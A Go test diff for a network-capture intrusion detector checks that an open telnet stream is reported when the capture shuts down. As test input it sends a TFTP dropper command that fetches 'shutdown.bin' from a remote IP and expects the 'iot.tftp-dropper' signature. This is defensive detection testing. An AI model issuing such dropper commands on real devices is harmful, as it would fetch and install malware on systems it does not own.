@@ -108,3 +108,64 @@ func TestLiveCaptureOpenCommandIdle(t *testing.T) {
 		}
 	}
 }
+
+// TestLiveCaptureEndsStreamsAtShutdown: a fetch left open on a live
+// connection, long before its stream could be idle, is reported when the
+// capture shuts down, as at the end of a capture file.
+func TestLiveCaptureEndsStreamsAtShutdown(t *testing.T) {
+	ns := testutil.NewNetns(t, "wsgapx")
+	var rec evidencetest.Recorder
+	var c *Capture
+	var ln net.Listener
+	inNetns(t, string(ns), func() {
+		var err error
+		if c, err = NewCapture("lo", CaptureConfig{Sigs: StaticSet{signatures.Default()}, Rec: &rec, Workers: 1, RingMB: 4,
+			Matcher: Options{StreamIdle: time.Hour}}); err != nil {
+			t.Fatal(err)
+		}
+		if ln, err = net.Listen("tcp", "127.0.0.1:23"); err != nil {
+			t.Fatal(err)
+		}
+	})
+	defer ln.Close()
+	go func() {
+		for {
+			conn, err := ln.Accept()
+			if err != nil {
+				return
+			}
+			go func() { io.Copy(io.Discard, conn); conn.Close() }()
+		}
+	}()
+	runErr := make(chan error, 1)
+	go func() { runErr <- c.Serve(context.Background()) }()
+	var conn net.Conn
+	inNetns(t, string(ns), func() {
+		var err error
+		if conn, err = net.Dial("tcp", "127.0.0.1:23"); err != nil {
+			t.Fatal(err)
+		}
+	})
+	defer conn.Close()
+	// The handshake's segments are read (counted) once the capture runs;
+	// the command's segment after them.
+	waitFor(t, "the capture reading the namespace's loopback", func() bool { return c.Stats().Packets > 0 })
+	before := c.Stats().Packets
+	if _, err := conn.Write([]byte("tftp -g -r shutdown.bin 10.0.0.9")); err != nil {
+		t.Fatal(err)
+	}
+	waitFor(t, "the command's segment read", func() bool { return c.Stats().Packets > before })
+	port := uint16(conn.LocalAddr().(*net.TCPAddr).Port)
+	if got := found(rec.Events(), port); len(got) != 0 {
+		t.Fatalf("reported before the capture ended: %v", got)
+	}
+	if err := c.Shutdown(context.Background()); err != nil {
+		t.Errorf("Shutdown: %v", err)
+	}
+	if err := <-runErr; !errors.Is(err, ErrCaptureClosed) {
+		t.Errorf("Serve: %v, want ErrCaptureClosed", err)
+	}
+	if got := found(rec.Events(), port); !slices.Equal(got, []string{"iot.tftp-dropper.generic/weak"}) {
+		t.Errorf("after shutdown: %v", got)
+	}
+}
